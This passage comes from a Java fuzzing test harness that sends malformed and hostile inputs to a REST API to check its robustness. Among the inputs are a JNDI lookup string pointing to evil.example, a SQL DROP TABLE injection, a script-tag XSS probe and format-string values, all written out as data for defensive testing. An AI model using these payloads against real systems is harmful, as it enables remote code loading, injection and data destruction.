                Object v = fieldSchema.path("type").asText().equals("array") ? nCopies(max + 1, generate(fieldSchema.path("items"), field, 3))
                        : pick("a", "ت", "💥", "'").repeat(pick(max + 1, 10_000, 300_000));
                target.put(field, v);
                return where + field + " over-long (" + (v instanceof List<?> l ? l.size() + " items" : ((String) v).length() + " chars") + ")";
            }
            case 3 -> {
                String unknown = pick("unknownField", "__proto__", "id", "status", "submittedBy", "createdAt", "version", "x".repeat(500));
                target.put(unknown, pick("x", 1, List.of(), Map.of("a", 1)));
                return where + "unknown field " + describe(unknown);
            }
            case 4 -> {
                String v = pick("nul\u0000inside", "\u0000", "a\u0000", "\u0000\u0000\u0000", "ok\u0000'; DROP TABLE report;--");
                target.put(field, v);
                return where + field + " with NUL";
            }
            case 5 -> {
                Object v = pick(1e308, -1e308, Long.MAX_VALUE, Long.MIN_VALUE, new java.math.BigInteger("9".repeat(400)), new java.math.BigDecimal("1e-400"), 2147483648L, -2147483649L);
                target.put(field, v);
                return where + field + "=huge " + describe(v);
            }
            case 6 -> {
                target.put(field, null);
                return where + field + "=null";
            }
            case 7 -> {
                Object v = pick("", " ", "\t\n", "\u200B", "\u202Egnp.exe", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "%s%n", "-1", "bogus");
                target.put(field, v);
                return where + field + "=" + describe(v);
            }
            default -> {
                Object v = random().nextBoolean() ? uuid().toString() : pick(BOGUS_IDS);
                target.put(field, v);
                return where + field + "=" + describe(v) + " (no such thing)";
            }
        }
    }

    private static List<Object> nCopies(int n, Object item) {
        List<Object> l = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            l.add(item);
        }
        return l;
    }

    /** Bodies that are not the JSON of an object. */
    private byte[] rawGarbage(String json) {
        String s = switch (random().nextInt(12)) {
            case 0 -> json.substring(0, random().nextInt(Math.max(1, json.length())));
            case 1 -> "";
            case 2 -> "null";
            case 3 -> "[" + json + "]";
            case 4 -> "42";
            case 5 -> "{" + "\"a\":{".repeat(3000) + "}".repeat(3001);
            case 6 -> "{\"a\":" + "[".repeat(5000) + "]".repeat(5000) + "}";
            case 7 -> json.replaceFirst("}$", ",}");
            case 8 -> "\uFEFF" + json;
            case 9 -> json + json;
            case 10 -> json.replaceFirst("\\{", "{\"x\":NaN,");
            default -> null;
        };
        if (s == null) {
            byte[] bad = { '{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}' };
            return bad;
        }
        return s.getBytes(StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------- helpers

    /** A random UUID from the seeded generator, so a seed replays the same ids. */
    private UUID uuid() {
        return new UUID(random().nextLong(), random().nextLong());
    }

    private Random random() {
        return random.get();
    }

    @SafeVarargs
    private <T> T pick(T... options) {
        return options[random().nextInt(options.length)];
    }

    private static String describe(Object value) {
        if (value == null) {
            return "null";
        }
        String s = value instanceof String str ? "\"" + str + "\"" : value.getClass().getSimpleName() + ":" + value;
        return abbreviate(s.replace("\u0000", "\\u0000").replace("\n", "\\n"), 60);
    }

    private static String abbreviate(String s, int max) {
        return s.length() > max ? s.substring(0, max) + "...(" + s.length() + " chars)" : s;
    }

    /** Bookkeeping (fixtures, ETags) without the contract filter: the fuzzed requests' own answers are what is checked. */
    private static RequestSpecification plain(String user) {
        var spec = RestAssured.given().accept("application/json");
        return user == null ? spec : spec.auth().preemptive().basic(user, user + "-demo");
    }
}
